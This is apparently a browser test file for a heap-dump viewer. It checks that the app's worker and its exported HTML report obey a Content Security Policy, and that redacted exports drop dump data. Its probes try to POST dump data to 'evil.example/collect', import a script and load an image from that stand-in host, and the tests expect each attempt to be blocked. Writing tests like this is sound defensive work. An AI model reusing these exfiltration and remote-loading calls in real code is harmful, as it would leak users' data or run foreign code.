// Privacy of what runs and what leaves the page (issue 12):
// - the analysis worker is bound by the page's CSP on any host, with or without a CSP header
//   (it starts from a blob: URL and inherits the page's policy): it can neither fetch nor
//   importScripts from another origin;
// - the tab title never names the dump;
// - exports say what they contain, and "Redact values" removes the dump's data;
// - the exported HTML report enforces its own CSP in a browser: its sorting script runs (its
//   hash is right), nothing else can load or connect.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { openApp } from './harness.mjs';
import { fixture, openDump, waitSuspects } from './dumps.mjs';

const READY = '.engine-status[data-state="ready"][data-ping="ok"]';

/** The page's worker (waits for it). */
async function theWorker(page) {
  for (let i = 0; i < 200 && page.workers().length === 0; i++) await page.waitForTimeout(50);
  const workers = page.workers();
  assert.ok(workers.length > 0, 'no worker');
  return workers[workers.length - 1];
}

/**
 * Inside `worker` (or the page): fetch and importScripts from another origin; returns what
 * happened and the CSP violations reported.
 */
async function probe(target) {
  return target.evaluate(async () => {
    const violations = [];
    self.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    const fetched = await fetch('http://evil.example/collect', { method: 'POST', body: 'dump' }).then(
      () => 'sent',
      () => 'failed',
    );
    let imported = 'n/a';
    if (typeof importScripts === 'function') {
      try {
        importScripts('http://evil.example/x.js');
        imported = 'loaded';
      } catch (e) {
        imported = e.name;
      }
    }
    await new Promise((ok) => setTimeout(ok, 300)); // violation events are queued tasks
    return { fetched, imported, violations, url: self.location.href };
  });
}

for (const cspHeader of [true, false]) {
  const host = cspHeader ? 'with the CSP header' : 'on a static host without headers';
  test(`the analysis worker obeys the page's CSP ${host}`, async (t) => {
    const app = await openApp({ cspHeader });
    t.after(() => app.close());
    const { page } = app;
    await page.locator(READY).waitFor({ timeout: 30_000 });
    const worker = await theWorker(page);
    const r = await probe(worker);
    t.diagnostic(JSON.stringify(r));
    assert.match(r.url, /^blob:/, 'the worker starts from a blob: URL');
    assert.equal(r.fetched, 'failed');
    assert.equal(r.imported, 'NetworkError');
    assert.ok(
      r.violations.some((v) => /^connect-src http:\/\/evil\.example/.test(v)),
      `no connect-src violation: ${r.violations}`,
    );
    assert.ok(
      r.violations.some((v) => /^script-src(-elem)? http:\/\/evil\.example/.test(v)),
      `no script-src violation: ${r.violations}`,
    );
    // Blocked before any DNS lookup or socket: the browser never even tried.
    assert.ok(!app.requests.some((u) => u.includes('evil.example')), `requests: ${app.requests}`);
    assert.ok(!app.failedRequests.some((u) => u.includes('evil.example') && !/BLOCKED_BY_CSP|csp/i.test(u)));

    // Why not `new Worker("./worker_loader.js")`: such a worker takes its policy from its own
    // response only. Measured here for the record (not asserted: it is the browser's business).
    const control = await page.evaluate(async () => {
      const w = new Worker('./worker_loader.js', { name: 'control' });
      await new Promise((ok) => setTimeout(ok, 500));
      return !!w;
    });
    const urlWorker = page.workers().find((w) => /worker_loader\.js$/.test(w.url()));
    if (control && urlWorker) {
      const c = await probe(urlWorker);
      t.diagnostic(`a worker started from its URL ${host}: ${JSON.stringify(c)}`);
    }
  });
}

test('the tab title does not name the dump; exports say what they hold; redaction removes it', async (t) => {
  const app = await openApp();
  t.after(() => app.close());
  const { page } = app;
  await page.locator(READY).waitFor({ timeout: 30_000 });
  await openDump(app, fixture('queue_backlog'));
  await waitSuspects(page);
  assert.ok(!(await page.title()).includes('queue_backlog'), await page.title());

  const save = async (label, redact) => {
    await page.locator('.export-menu summary').click();
    const box = page.locator('.export-menu .redact-values');
    if ((await box.isChecked()) !== redact) await box.click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('.export-menu .menu button', { hasText: label }).click(),
    ]);
    const text = await readFile(await download.path(), 'utf8');
    await page.locator('.export-menu summary').click();
    return { name: download.suggestedFilename(), text };
  };

  const full = await save('JSON', false);
  const v = JSON.parse(full.text);
  assert.equal(v.contents.redacted, false);
  assert.ok(v.contents.values.includes('thread names'), JSON.stringify(v.contents));
  const names = v.threads.map((x) => x.name).filter((n) => n.length >= 4);
  assert.ok(names.length > 0);

  const red = await save('JSON', true);
  assert.equal(red.name, 'heap.redacted.heaplens.json');
  const rv = JSON.parse(red.text);
  assert.equal(rv.contents.redacted, true);
  assert.deepEqual(rv.summary, v.summary, 'sizes and counts are the same');
  assert.ok(!red.text.includes('queue_backlog'), 'the file name is gone');
  for (const n of names) assert.ok(!red.text.includes(JSON.stringify(n)), `thread name ${n} left`);
  assert.ok(rv.duplicate_strings.groups.every((g) => /^<string \d+>$/.test(g.value)));
  // A value quoted nowhere else in the full report (not also a class or field name) is gone.
  const count = (text, needle) => text.split(needle).length - 1;
  for (const g of v.duplicate_strings.groups) {
    const q = JSON.stringify(g.value);
    if (count(full.text, q) === 1) assert.equal(count(red.text, q), 0, `string ${q} left`);
  }

  const md = await save('Markdown', true);
  assert.match(md.text, /^> \*\*Contents:\*\* Redacted for sharing/m);

  // The exported HTML report under its own CSP, served without any header.
  const html = await save('HTML', false);
  assert.match(html.text, /<p class="contents" id="contents">This report holds data from the heap dump/);
  const report = await app.context.newPage();
  const errors = [];
  report.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  report.on('pageerror', (e) => errors.push(String(e)));
  await report.route('**/report-under-test.html', (route) =>
    route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html.text }),
  );
  await report.goto(`${app.origin}/report-under-test.html`);
  // Its one script runs (the CSP allows it by hash): headers sort.
  const th = report.locator('#histogram th').nth(2);
  await th.click();
  assert.equal(await th.getAttribute('aria-sort'), 'descending');
  // Anything else is refused.
  const r = await report.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const fetched = await fetch('http://evil.example/c').then(() => 'sent', () => 'failed');
    const img = new Image();
    img.src = 'http://evil.example/i.png';
    const s = document.createElement('script');
    s.textContent = 'window.__ran = true';
    document.body.append(s);
    await new Promise((ok) => setTimeout(ok, 300));
    return { fetched, violations: violations.sort(), ran: window.__ran === true };
  });
  assert.deepEqual(r, { fetched: 'failed', violations: ['connect-src', 'img-src', 'script-src-elem'], ran: false });
  assert.ok(errors.every((e) => /Content Security Policy/.test(e)), errors.join('\n'));
  // Refused by the policy, not by the network: any attempt the browser reports failed as
  // blocked by the CSP.
  const evil = app.failedRequests.filter((f) => f.includes('evil.example'));
  t.diagnostic(`report page: requests ${app.requests.filter((u) => u.includes('evil'))}; failed ${evil}`);
  assert.ok(evil.every((f) => /BLOCKED_BY_CSP|csp/i.test(f)), evil.join('\n'));
});
